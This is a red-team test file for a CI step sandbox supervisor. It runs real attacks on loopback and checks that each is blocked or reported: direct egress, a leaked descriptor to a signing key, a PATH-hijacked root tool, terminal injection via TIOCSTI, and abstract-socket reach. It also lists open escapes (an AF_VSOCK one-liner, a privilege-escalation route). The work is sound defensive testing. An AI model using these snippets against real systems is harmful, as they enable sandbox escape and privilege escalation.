// Attacks on the supervisor by a step whose command the attacker controls (the policy and the
// workflow are the defender's), each built for real: real processes, real iptables, loopback only.
// Each test shows the attack stopped; what still gets through is an `it.todo` with its reproduction.
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { chmod, chown, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createServer } from 'node:net';
import { PassThrough } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { anomalySettings, learnRun, emptyBaseline, type Policy } from '@sathos/core';
import { chooseSandbox } from './sandbox.js';
import { superviseScript, superviseStep } from './supervise-step.js';
import { countingServer, loopbackResolver, type CountingServer } from './test-servers.js';

const iptables = await chooseSandbox('iptables').then(
  () => undefined,
  (error: unknown) => (error instanceof Error ? error.message : String(error)),
);

/** A step that ignores the proxy: a TCP connection and a UDP datagram straight to `port`. */
const DIRECT_STEP = String.raw`
const net = require('node:net');
const dgram = require('node:dgram');
const port = Number(process.argv[1]);
const udp = dgram.createSocket('udp4');
udp.send('exfiltrated', port, '127.0.0.1', () => udp.close());
const socket = net.connect({ host: '127.0.0.1', port }, () => { console.log('direct: connected'); socket.destroy(); });
socket.on('error', (e) => console.log('direct: ' + e.code));
`;

function collect(): { stream: PassThrough; text: () => string } {
  let text = '';
  const stream = new PassThrough();
  stream.on('data', (chunk: Buffer) => {
    text += chunk.toString('utf8');
  });
  return { stream, text: () => text };
}

describe('attack: egress past the gateway on the iptables level', { skip: iptables }, () => {
  let server: CountingServer;
  before(async () => {
    server = await countingServer('the attacker reached me');
  });
  after(async () => {
    await server.close();
  });

  it('a direct connection the rules reject is a finding the gate sees, and teaches no baseline', async () => {
    const out = collect();
    const supervised = await superviseStep({
      command: process.execPath,
      args: ['-e', DIRECT_STEP, String(server.port)],
      settings: anomalySettings({ allowedHosts: ['allowed.test'], mode: 'block' }, {}, 'policy'),
      step: 'direct',
      resolve: loopbackResolver,
      sandbox: 'iptables',
      output: { stdout: out.stream, stderr: out.stream },
    });
    assert.match(out.text(), /^direct: ECONNREFUSED$/m, 'the rules rejected it');
    assert.equal(server.connections(), 0);
    const { anomaly } = supervised.observations;
    // Before: findings [] — the attempt showed only in the sandbox note, and the gate allowed.
    const direct = anomaly.findings.find((f) => f.kind === 'direct-egress');
    assert.ok(
      direct !== undefined && 'count' in direct && direct.count >= 2,
      `a direct-egress finding for the SYN and the datagram, got ${JSON.stringify(anomaly.findings)}`,
    );
    const learned = learnRun(emptyBaseline('direct'), { ...supervised.run, at: Date.now() });
    assert.equal(learned.learned, false, 'a run with rejected egress teaches nothing');
  });

  it('counters that cannot be read are not "nothing rejected"', async () => {
    // iptables that lists the run's counters no more (a timeout, a lock): the rest works.
    const dir = await mkdtemp(join(tmpdir(), 'sathos-redteam-bin-'));
    for (const family of ['iptables', 'ip6tables']) {
      const real = execFileSync('sh', ['-c', `command -v ${family}`], { encoding: 'utf8' }).trim();
      const fake = join(dir, family);
      const script = `#!/bin/sh\ncase " $* " in *" -v -x "*) exit 4;; esac\nexec ${real} "$@"\n`;
      await writeFile(fake, script);
      await chmod(fake, 0o755);
    }
    const path = process.env.PATH;
    process.env.PATH = `${dir}:${path ?? ''}`;
    try {
      const supervised = await superviseStep({
        command: process.execPath,
        args: ['-e', 'console.log("quiet")'],
        settings: anomalySettings({ allowedHosts: ['allowed.test'], mode: 'block' }, {}, 'policy'),
        step: 'quiet',
        sandbox: 'iptables',
        output: { stdout: collect().stream, stderr: collect().stream },
      });
      const { findings } = supervised.observations.anomaly;
      assert.ok(
        findings.some((f) => f.kind === 'direct-egress'),
        `unreadable counters are a finding, got ${JSON.stringify(findings)}`,
      );
      assert.match(supervised.report.sandboxNote, /counters could not be read/);
    } finally {
      process.env.PATH = path;
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('under halt, a direct connection halts the step (before, it ran on to its end)', async () => {
    const out = collect();
    const supervised = await superviseStep({
      command: process.execPath,
      // Tries once, then would stay 60 s: the halt, not the step, must end it.
      args: [
        '-e',
        `${DIRECT_STEP}; setTimeout(() => console.log('finished'), 60000);`,
        String(server.port),
      ],
      settings: anomalySettings({ allowedHosts: ['allowed.test'], mode: 'halt' }, {}, 'policy'),
      step: 'direct',
      resolve: loopbackResolver,
      sandbox: 'iptables',
      graceMs: 500,
      output: { stdout: out.stream, stderr: out.stream },
    });
    assert.equal(supervised.halted?.cause, 'egress', JSON.stringify(supervised.halted));
    assert.doesNotMatch(out.text(), /finished/);
    assert.equal(server.connections(), 0);
    assert.ok(supervised.observations.anomaly.findings.some((f) => f.kind === 'direct-egress'));
  });
});

/** A supervisor in its own process, started by a shell that leaves `fd` open on `file`. */
function supervisorWithLeakedFd(sandbox: string, fd: number, file: string): Promise<string> {
  const code = `
    import { supervise } from ${JSON.stringify(new URL('./supervise.ts', import.meta.url).pathname)};
    const report = await supervise({
      command: process.execPath,
      args: ['-e', "try { console.log('read: ' + require('fs').readFileSync(${fd}, 'utf8')) } catch (e) { console.log('read: ' + e.code) }"],
      decide: () => ({ action: 'block', rule: 'default', reason: 'nothing is allowed' }),
      sandbox: ${JSON.stringify(sandbox)},
      output: { stdout: process.stdout, stderr: process.stdout },
    });
    console.log('sandbox: ' + report.sandbox);`;
  const child = spawn(
    'bash',
    [
      '-c',
      `exec "$0" --import tsx --input-type=module -e "$1" ${fd}<"$2"`,
      process.execPath,
      code,
      file,
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  );
  let out = '';
  child.stdout.on('data', (chunk: Buffer) => {
    out += chunk.toString('utf8');
  });
  return new Promise((resolve) => {
    child.on('close', () => {
      resolve(out);
    });
  });
}

describe('attack: a descriptor the supervisor inherited', { skip: iptables }, () => {
  let dir: string;
  let secret: string;
  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'sathos-redteam-'));
    secret = join(dir, 'signing-key');
    await writeFile(secret, 'the caller signing key');
    await chmod(secret, 0o600);
  });
  after(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  // A caller's script holding a file open (exec 200<key, a flock) passes it to every program it
  // runs; node marks only low descriptors close-on-exec. The step, a uid of its own that cannot
  // open the file, read it through the descriptor.
  it('does not reach a step on the iptables level', async () => {
    const out = await supervisorWithLeakedFd('iptables', 200, secret);
    assert.match(out, /^sandbox: iptables$/m);
    assert.doesNotMatch(out, /signing key/);
    assert.match(out, /^read: (EBADF|EISDIR|EINVAL|)$/m);
  });

  it('does not reach a step in the network namespace', async () => {
    const out = await supervisorWithLeakedFd('netns', 200, secret);
    assert.match(out, /^sandbox: netns$/m);
    assert.doesNotMatch(out, /signing key/);
  });
});

const SUDO_USER = 'sathos-rt-path';
const SUDOERS = `/etc/sudoers.d/${SUDO_USER}`;

function sudoWhyNot(): string | undefined {
  if (process.getuid?.() !== 0) return 'the test makes a user and a sudoers entry: run it as root';
  for (const tool of ['sudo', 'useradd', 'userdel', 'setpriv', 'unshare', 'ip', 'visudo']) {
    try {
      execFileSync('sh', ['-c', `command -v ${tool}`], { stdio: 'ignore' });
    } catch {
      return `${tool} is not installed`;
    }
  }
  return undefined;
}

// The sudo route's init is real root. Where sudoers keeps the caller's PATH (no secure_path), a
// root init that looked its tools up there ran the user's own `ip`: anything the user (or a step
// of an earlier run, with the user's file rights) put first on its PATH ran as root.
describe(
  'attack: the sudo route runs root tools from the user PATH',
  { skip: sudoWhyNot() },
  () => {
    let dir: string;
    before(async () => {
      try {
        execFileSync('useradd', ['--system', '--no-create-home', '--shell', '/bin/sh', SUDO_USER], {
          stdio: 'ignore',
        });
      } catch {
        // Left from an earlier run: used as it is.
      }
      const rules = `${SUDO_USER} ALL=(ALL:ALL) NOPASSWD: ALL\nDefaults:${SUDO_USER} !secure_path\n`;
      await writeFile(SUDOERS, rules, { mode: 0o440 });
      execFileSync('visudo', ['-c', '-f', SUDOERS], { stdio: 'ignore' });
      dir = await mkdtemp(join(tmpdir(), 'sathos-rt-path-'));
      const uid = Number(execFileSync('id', ['-u', SUDO_USER], { encoding: 'utf8' }).trim());
      await chown(dir, uid, uid);
      await chmod(dir, 0o755);
      const realIp = execFileSync('sh', ['-c', 'command -v ip'], { encoding: 'utf8' }).trim();
      // The user's own `ip`: records who ran it, then does what was asked.
      const fake = join(dir, 'ip');
      await writeFile(fake, `#!/bin/sh\nid -u >> "${dir}/ran-as"\nexec ${realIp} "$@"\n`);
      await chmod(fake, 0o755);
      await chown(fake, uid, uid);
    });
    after(async () => {
      await rm(SUDOERS, { force: true });
      await rm(dir, { recursive: true, force: true });
      execFileSync('userdel', [SUDO_USER], { stdio: 'ignore' });
    });

    it("the root init never runs a program from the user's PATH", async () => {
      const fixture = join(dirname(fileURLToPath(import.meta.url)), 'sandbox-fixture.ts');
      const child = spawn(
        'setpriv',
        [`--reuid=${SUDO_USER}`, `--regid=${SUDO_USER}`, '--init-groups', '--'].concat([
          process.execPath,
          '--import',
          'tsx',
          fixture,
          'auto',
          '1',
          '2',
        ]),
        {
          cwd: dirname(fixture),
          stdio: ['ignore', 'pipe', 'ignore'],
          env: { PATH: `${dir}:${process.env.PATH ?? '/usr/bin:/bin'}`, HOME: '/tmp' },
        },
      );
      let out = '';
      child.stdout.on('data', (chunk: Buffer) => {
        out += chunk.toString('utf8');
      });
      await new Promise((resolve) => child.on('close', resolve));
      assert.match(out, /"sandbox":"netns"/, `the sudo route ran: ${out.slice(0, 300)}`);
      assert.match(out, /network namespace \(via sudo\)/);
      const ranAs = existsSync(join(dir, 'ran-as'))
        ? readFileSync(join(dir, 'ran-as'), 'utf8')
        : '';
      assert.doesNotMatch(ranAs, /^0$/m, "root ran the user's ip");
    });
  },
);

/** A policy whose only say is its anomaly section (or none). */
function policyWith(anomaly: Policy['anomaly']): Policy {
  return {
    uri: 'file:policy.yaml',
    digest: '0'.repeat(64),
    stages: ['build'],
    identities: {},
    rules: [],
    environments: {},
    ...(anomaly === undefined ? {} : { anomaly }),
  };
}

/** A `run:` script reaching `unknown.test` through the proxy (it ignores the answer). */
const UNKNOWN_HOST_SCRIPT = `"${process.execPath}" -e "
const proxy = new URL(process.env.HTTP_PROXY);
require('node:http').get({ host: proxy.hostname, port: proxy.port, path: 'http://unknown.test:8080/' }, (r) => r.resume()).on('error', () => {});
"`;

// No policy, no finding must not reach a step whose policy names its hosts: under audit its
// unknown host connects, and is a finding the gate denies on.
describe('attack: an unknown host under a policy that names the hosts (audit)', () => {
  it('is a finding; only without an anomaly section is it merely counted', async () => {
    const judged = await superviseScript(
      UNKNOWN_HOST_SCRIPT,
      process.cwd(),
      process.env,
      policyWith({ mode: 'audit', allowedHosts: ['allowed.test'] }),
    );
    const { anomaly } = judged.observations;
    assert.equal(anomaly.hostsJudged, undefined);
    assert.ok(
      anomaly.findings.some((f) => f.kind === 'unknown-host' && f.host === 'unknown.test:8080'),
      JSON.stringify(anomaly.findings),
    );
    const unjudged = await superviseScript(
      UNKNOWN_HOST_SCRIPT,
      process.cwd(),
      process.env,
      policyWith(undefined),
    );
    assert.equal(unjudged.observations.anomaly.hostsJudged, false);
    assert.deepEqual(unjudged.observations.anomaly.findings, []);
    assert.equal(unjudged.observations.anomaly.connections.audited, 1);
  });
});

// An abstract unix socket has no file and no permissions; only a network namespace separates them.
// On the iptables level the step shares the host's, so a host daemon listening on one (containerd's
// shims did) is reachable, and would connect on the step's behalf. Not stopped: the report says so.
const netns = await chooseSandbox('netns').then(
  () => undefined,
  (error: unknown) => (error instanceof Error ? error.message : String(error)),
);

/** A host daemon on an abstract unix socket; the step tries it; returns what it printed, contacts. */
async function tryAbstractDaemon(
  sandbox: 'iptables' | 'netns',
): Promise<{ text: string; contacts: number; note: string }> {
  const name = `\0sathos-redteam-${String(process.pid)}-${sandbox}`;
  let contacts = 0;
  const daemon = createServer((socket) => {
    contacts++;
    socket.end('the daemon answered\n');
  });
  await new Promise<void>((resolve) => daemon.listen(name, resolve));
  try {
    const out = collect();
    const step = `const s = require('node:net').connect(${JSON.stringify(name)}); s.on('data', (d) => process.stdout.write(d)); s.on('error', (e) => console.log('error ' + e.code));`;
    const supervised = await superviseStep({
      command: process.execPath,
      args: ['-e', step],
      settings: anomalySettings({ allowedHosts: [], mode: 'block' }, {}, 'policy'),
      step: 'abstract',
      sandbox,
      output: { stdout: out.stream, stderr: out.stream },
    });
    return { text: out.text(), contacts, note: supervised.report.sandboxNote };
  } finally {
    daemon.close();
  }
}

describe('attack: an abstract unix socket in the network namespace', { skip: netns }, () => {
  it('is out of reach: abstract sockets belong to the namespace', async () => {
    const { text, contacts } = await tryAbstractDaemon('netns');
    assert.match(text, /^error ECONNREFUSED$/m);
    assert.equal(contacts, 0);
  });
});

describe('attack: an abstract unix socket on the iptables level', { skip: iptables }, () => {
  it('reaches a host daemon, and the report names the miss', async () => {
    const { text, contacts, note } = await tryAbstractDaemon('iptables');
    assert.match(text, /the daemon answered/, 'the documented miss is real');
    assert.equal(contacts, 1);
    assert.match(note, /every abstract one/);
  });
});

/** Runs `command` on a fresh pseudo-terminal (its controlling terminal); resolves with its output. */
const PTY_HARNESS = `
import os, subprocess, sys, fcntl, termios, select, time
master, slave = os.openpty()
def ctty():
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
p = subprocess.Popen(sys.argv[1:], stdin=slave, stdout=slave, stderr=slave, preexec_fn=ctty)
os.close(slave)
out = b''
end = time.time() + 120
while time.time() < end:
    if select.select([master], [], [], 0.5)[0]:
        try:
            data = os.read(master, 4096)
        except OSError:
            break
        if not data:
            break
        out += data
    elif p.poll() is not None:
        break
p.wait()
sys.stdout.write(out.decode('utf8', 'replace'))
`;

/** The step: types a command into its terminal (TIOCSTI), for whoever reads it next. */
const TIOCSTI_STEP = String.raw`
import fcntl, termios
try:
    for c in b'echo INJECTED-BY-STEP\n':
        fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))
    print('typed')
except OSError as e:
    print('refused', e.errno)
`;

function ttyWhyNot(): string | undefined {
  try {
    if (readFileSync('/proc/sys/dev/tty/legacy_tiocsti', 'utf8').trim() !== '1')
      return 'TIOCSTI is off on this kernel';
    execFileSync('sh', ['-c', 'command -v python3 && command -v bash'], { stdio: 'ignore' });
  } catch {
    return 'needs python3, bash and a kernel that says whether TIOCSTI is on';
  }
  return netns;
}

// `sathos guard` run from a terminal: the namespace's init shared the user's session, so its
// terminal was the step's controlling terminal, and TIOCSTI typed a command into it that the
// user's shell ran after the supervisor ended — outside the sandbox, with the network.
describe(
  "attack: typing into the user's terminal from the network namespace",
  {
    skip: ttyWhyNot(),
  },
  () => {
    it("the step cannot push input into its caller's terminal", async () => {
      const python = execFileSync('sh', ['-c', 'command -v python3'], { encoding: 'utf8' }).trim();
      const code = `
      import { supervise } from ${JSON.stringify(new URL('./supervise.ts', import.meta.url).pathname)};
      const report = await supervise({
        command: ${JSON.stringify(python)},
        args: ['-c', ${JSON.stringify(TIOCSTI_STEP)}],
        decide: () => ({ action: 'block', rule: 'default', reason: 'nothing is allowed' }),
        sandbox: 'netns',
      });
      console.log('sandbox: ' + report.sandbox);`;
      // The user's shell: runs the supervisor, then reads what is typed next, as a prompt would.
      const shell = `"$0" --import tsx --input-type=module -e "$1"; read -t 3 -r line; echo "shell read: [$line]"`;
      const child = spawn(
        python,
        ['-c', PTY_HARNESS, 'bash', '-c', shell, process.execPath, code],
        {
          stdio: ['ignore', 'pipe', 'inherit'],
        },
      );
      let out = '';
      child.stdout.on('data', (chunk: Buffer) => {
        out += chunk.toString('utf8');
      });
      await new Promise((resolve) => child.on('close', resolve));
      assert.match(out, /sandbox: netns/, out);
      assert.match(out, /shell read: \[\]/, 'the shell read nothing the step typed');
      assert.doesNotMatch(out, /^typed/m);
    });
  },
);

// What got through and is left open (no small safe fix here); each with its reproduction.
describe('open: attacks not stopped yet', () => {
  void it.todo(
    'AF_VSOCK is neither network-namespaced nor matched by iptables: a step on any level can ' +
      "socket(AF_VSOCK) and connect to the hypervisor (CID 2) — python3 -c 'import socket; " +
      "s=socket.socket(socket.AF_VSOCK); s.connect((2, PORT))' — unseen by the gateway. Not " +
      'testable on loopback (no vsock_loopback here). Fix: a seccomp filter refusing AF_VSOCK ' +
      '(and AF_PACKET, AF_NETLINK writes) for the step, or say so in every note',
  );
  void it.todo(
    "the sudo route's step keeps the user's file rights, and the user can sudo: a step that " +
      'rewrites a file a later process of the user runs — the node binary the next supervisor ' +
      "hands to 'sudo -n -- unshare …' as the init (process.execPath; on GitHub's runners the " +
      "runner owns the tool cache and its externals), ~/.bashrc — gets root outside the step's " +
      'run. Fix: refuse an init binary the user can write, and run the step as a fresh uid (as on ' +
      'the iptables level) where the workspace allows',
  );
});
